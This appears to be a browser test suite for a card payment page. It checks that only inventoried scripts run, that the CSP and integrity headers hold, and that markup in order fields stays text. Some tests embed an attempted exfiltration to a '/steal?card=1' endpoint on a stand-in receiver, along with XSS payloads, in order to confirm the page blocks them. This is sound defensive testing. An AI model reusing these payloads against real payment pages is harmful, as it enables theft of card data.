// What protects a card in the browser: which scripts run, what they can do, where data goes.
import { readFileSync } from 'node:fs';
import type { Browser } from 'playwright-core';
import { afterAll, afterEach, beforeAll, beforeEach, expect, test } from 'vitest';
import { cardScript } from '../../src/pages/card/assets.ts';
import { newVisitor, openBrowser, type Visitor } from '../support/browser.ts';
import { bankIn, confirmAtBank, payWith } from '../support/card-customer.ts';
import { approved, challenged, orderCard } from '../support/cards.ts';
import { startTestGateway, type TestGateway } from '../support/gateway.ts';

const inventory = JSON.parse(
  readFileSync(new URL('../../src/pages/card/script-inventory.json', import.meta.url), 'utf8'),
) as { scripts: { path: string; integrity: string; bytes: number }[] };

let browser: Browser;
let house: TestGateway;
let visitor: Visitor;

beforeAll(async () => {
  house = await startTestGateway();
  browser = await openBrowser();
});

afterAll(async () => {
  await browser?.close();
  await house?.stop();
});

beforeEach(async () => {
  visitor = await newVisitor(browser);
});

afterEach(() => visitor.context.close());

const paid = () => visitor.page.getByRole('heading', { name: 'Payment received' }).waitFor();

test('during the whole payment only the scripts of the inventory run, and nothing leaves the gateway', async () => {
  const { page, complaints } = visitor;
  const scripts = new Set<string>();
  const origins = new Set<string>();
  page.on('request', (request) => {
    const { origin, pathname, protocol } = new URL(request.url());
    if (protocol !== 'data:') origins.add(origin);
    if (request.resourceType() === 'script') scripts.add(pathname);
  });
  const { url } = await orderCard(house);
  await page.goto(url);
  const [script, ...more] = await page.locator('script').all();
  expect(more).toEqual([]);
  expect(await script?.getAttribute('integrity')).toBe(inventory.scripts[0]?.integrity);
  await payWith(page, { number: challenged });
  await confirmAtBank(bankIn(page));
  await paid();
  expect([...scripts]).toEqual([inventory.scripts[0]?.path]);
  expect([...origins]).toEqual([house.url]);
  expect(complaints).toEqual([]);
});

test('the policy of the page: one script by its nonce, nothing else', async () => {
  const { url } = await orderCard(house);
  const answers = await Promise.all([fetch(url), fetch(url)]);
  const policies = answers.map(({ headers }) => headers.get('content-security-policy') ?? '');
  const nonces = policies.map((policy) => /'nonce-([\w-]+)'/.exec(policy)?.[1]);
  expect(nonces[0]).not.toBe(nonces[1]);
  expect(policies[0]?.replace(nonces[0] ?? '', 'N').split('; ')).toEqual([
    "default-src 'none'",
    "style-src 'self'",
    "img-src 'self' data:",
    "script-src 'nonce-N'",
    "require-trusted-types-for 'script'",
    'trusted-types',
    "form-action 'self'",
    "base-uri 'none'",
    "frame-ancestors 'none'",
  ]);
  expect(Object.fromEntries(answers[0]?.headers ?? [])).toMatchObject({
    'cache-control': 'no-store',
    'x-content-type-options': 'nosniff',
    'referrer-policy': 'no-referrer',
  });
});

test('a changed script does not run, and the page pays without it', async () => {
  const { page, complaints } = visitor;
  await page.route(`**${cardScript.path}`, (route) =>
    route.fulfill({ contentType: 'text/javascript', body: `${cardScript.body};void 0` }),
  );
  const { url } = await orderCard(house);
  await page.goto(url);
  await payWith(page, { number: approved, expiry: '12/49' });
  await paid();
  expect(complaints.join()).toContain('integrity');
});

test('an injected script cannot send data anywhere, and cannot write markup', async () => {
  const { page } = visitor;
  const { url } = await orderCard(house);
  await page.goto(url);
  const elsewhere = house.receiver.origin;
  const tried = await page.evaluate(`(async () => {
    const outcome = async (what) => { try { await what(); return 'done'; } catch (e) { return e.name; } };
    return {
      fetch: await outcome(() => fetch('${elsewhere}/steal?card=1', { mode: 'no-cors' })),
      beacon: navigator.sendBeacon('${elsewhere}/steal') ? 'queued' : 'refused',
      markup: await outcome(() => { document.body.innerHTML = '<img src=x onerror=alert(1)>'; }),
    };
  })()`);
  expect(tried).toMatchObject({ fetch: 'TypeError', markup: 'TypeError' });
  expect(house.receiver.received.map(({ target }) => target)).not.toContain('/steal');
});

test('markup in the names and texts of an order stays text', async () => {
  const { page, complaints } = visitor;
  const evil = `"><img src=x onerror="document.title='got in'"><script>document.title='got in'</script>`;
  const { url } = await orderCard(house, {
    order: { line_items: [{ name: evil, price: 90_000, quantity: 1 }] },
    additional_info: { disclaimer: { en: evil, id: evil } },
  });
  await page.goto(url);
  expect(await page.locator('.lines').textContent()).toContain(evil);
  expect(await page.locator('.disclaimer-text').textContent()).toBe(evil);
  expect(await page.locator('img').count()).toBe(0);
  expect(await page.title()).not.toContain('got in');
  expect(complaints).toEqual([]);
});

test('the test cards can be copied', async () => {
  const { page, complaints } = visitor;
  await page.goto(`${house.url}/simulator/cards`);
  await page.getByRole('button', { name: `Copy ${challenged}` }).click();
  await page.getByRole('status').getByText(`Copied: ${challenged}`).waitFor({ state: 'attached' });
  expect(await page.evaluate('navigator.clipboard.readText()')).toBe(challenged);
  expect(complaints).toEqual([]);
});
